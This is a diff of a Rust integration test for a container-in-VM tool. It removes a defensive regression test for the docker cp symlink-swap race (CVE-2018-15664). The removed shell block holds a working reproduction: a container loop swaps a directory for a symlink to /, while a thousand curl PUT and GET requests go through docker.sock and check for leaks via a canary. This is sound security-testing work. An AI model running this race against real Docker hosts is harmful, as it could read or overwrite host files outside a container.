@@ -3,8 +3,7 @@
 //! codes, logs, exec, ps, pause through the v2 freezer, stats from v2
 //! files, stop/kill/wait/rm, memory limit → OOMKilled from memory.events,
 //! pids limit) and Docker's confinement in the VM (mount, module load,
-//! sysrq, raw block device with and without seccomp, PIDs, hostname), and
-//! `docker cp`'s symlink-swap race (CVE-2018-15664) closed in the VM.
+//! sysrq, raw block device with and without seccomp, PIDs, hostname).
 //!
 //! One test-bed run; every step prints a `key: value` line that the
 //! assertions read, so a failure shows the whole console.
@@ -73,25 +72,6 @@ echo "hostname: $rc $( [ "$(berth machine shell m -- hostname)" = "$vmname" ] &&
 echo "host network sys: $(docker run --rm --network host busybox sh -c 'ls /sys/kernel/debug 2>/dev/null | wc -l; touch /sys/x 2>/dev/null && echo WRITABLE || echo ro')" | tr '\n' ' '
 echo
 
-# CVE-2018-15664 in the VM: the container swaps d/ for a symlink to / in a
-# tight loop while 1,000 rounds of PUT into /d and GET of d/berth-canary go
-# through the machine's docker.sock (one curl process, many requests).
-berth machine shell m -- sh -c 'echo vm-secret > /berth-canary'
-docker run -d --name race busybox sh -c 'mkdir /d && echo in > /d/inside && cd / && while :; do mv d d.x; ln -s / d; rm d; mv d.x d; done' >/dev/null
-mkdir -p /tmp/race/put && echo put > /tmp/race/put/race-put-file && tar -C /tmp/race/put -cf /tmp/race/put.tar race-put-file
-sock=${DOCKER_HOST#unix://}
-for i in $(seq 1 1000); do
-  echo "unix-socket = \"$sock\""; echo 'request = "PUT"'; echo 'data-binary = "@/tmp/race/put.tar"'
-  echo 'url = "http://x/containers/race/archive?path=/d"'; echo 'output = "/dev/null"'; echo 'write-out = "put %{http_code}\\n"'; echo next
-  echo "unix-socket = \"$sock\""; echo 'url = "http://x/containers/race/archive?path=/d/berth-canary"'
-  echo "output = \"/tmp/race/get$i\""; echo 'write-out = "get %{http_code}\\n"'; echo next
-done | sed '$d' > /tmp/race/curl.cfg
-curl -s -K /tmp/race/curl.cfg > /tmp/race/codes || true
-echo "race puts into d/: $(grep -c '^put 200' /tmp/race/codes) of 1000"
-echo "race gets: $(grep -c '^get ' /tmp/race/codes)"
-echo "race leaked reads: $(cat /tmp/race/get* | grep -c vm-secret || true)"
-echo "race canary: $(berth machine shell m -- cat /berth-canary) vm root: $(berth machine shell m -- sh -c 'test -e /race-put-file && echo WRITTEN || echo clean')"
-docker rm -f race >/dev/null
 berth machine rm --force m
 echo containers-vm-done
 "#;
@@ -145,17 +125,5 @@ fn containers_in_a_machine_on_cgroup_v2() {
     let seen: usize =
         c.lines().find_map(|l| l.strip_prefix("pids seen: ")).and_then(|v| v.trim().parse().ok()).unwrap_or(usize::MAX);
     assert!(seen <= 3, "only the container's own processes are visible: {seen}\n{c}");
-    // The cp race, in the VM: nothing read from or written to the VM's own
-    // root through the swapped directory, while the swap really happened.
-    assert!(has("race leaked reads: 0\n"), "a GET read the VM's file through the symlink:\n{c}");
-    assert!(has("race canary: vm-secret vm root: clean"), "a PUT wrote outside the container:\n{c}");
-    let found: usize = c
-        .split("race puts into d/: ")
-        .nth(1)
-        .and_then(|r| r.split_whitespace().next())
-        .and_then(|n| n.parse().ok())
-        .unwrap_or(0);
-    assert!(found > 0 && found < 1000, "the race did not race (d/ found {found} of 1000 times):\n{c}");
-    assert!(has("race gets: 1000\n"), "every GET was answered:\n{c}");
     assert!(has("containers-vm-done"), "{c}");
 }
